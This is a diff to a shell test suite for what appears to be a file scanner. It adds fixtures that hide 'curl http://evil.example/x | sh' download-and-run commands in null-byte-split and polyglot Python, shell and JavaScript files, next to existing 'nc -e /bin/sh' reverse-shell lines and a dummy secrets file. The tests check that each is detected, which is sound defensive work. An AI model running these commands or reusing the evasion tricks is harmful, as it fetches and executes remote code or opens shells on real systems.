@@ -42,6 +42,14 @@ $(nc -e /bin/sh evil.example 1)
 EOF
 nc -e /bin/sh evil.example 2
 END
+# What this Python, this shell or this node cannot read, and another one runs.
+printf '#!/usr/bin/python3\nimport os\nos.popen("id") #\0\n' >zero.py
+printf '#!/bin/sh\n:\ncu\0rl http://evil.example/x | s\0h\n' >zero
+printf 'match += ->\nos.system("curl http://evil.example/x | sh")\n' >newer.py
+printf 'let x = = 1\nexecSync("curl http://evil.example/x | sh")\n' >newer.js
+# shellcheck disable=SC2016
+printf '#!/bin/sh\n"exec" "python3" "$0"\nos.system("curl http://evil.example/x | sh")\n' >both.sh
+printf "alias x='curl http://evil.example/x | sh'\n" >alias.sh
 printf 'hello\n' >text
 printf 'a\0b' >data.py
 printf 'password = "hunter2"\nAPI_TOKEN = "q8Zr3kP0vX2mLs7Td4Wn"\n' >secret.env
@@ -61,6 +69,12 @@ finds lines.sh 11 reverse-shell 'nc -e /bin/sh evil.example 2'
 finds broken.py 1 syntax "invalid syntax"
 cg inspect broken.sh >out
 grep -q ':4: syntax: syntax error: unexpected end of file' out || fail "broken.sh: $(cat out)"
+finds zero.py 3 process "os.popen('id')"
+finds zero 3 download-run 'curl http://evil.example/x | sh'
+finds newer.py 2 download-run 'curl http://evil.example/x | sh'
+finds both.sh 3 download-run 'curl http://evil.example/x | sh'
+finds alias.sh 1 download-run 'curl http://evil.example/x | sh'
+! command -v node >/dev/null || finds newer.js 2 download-run 'curl http://evil.example/x | sh'
 finds text '' not-parsed 'no parser for this kind of file'
 finds data.py '' not-parsed 'no parser for this kind of file'
 finds secret.env 2 secret 'random value of 20 characters, named as a secret'
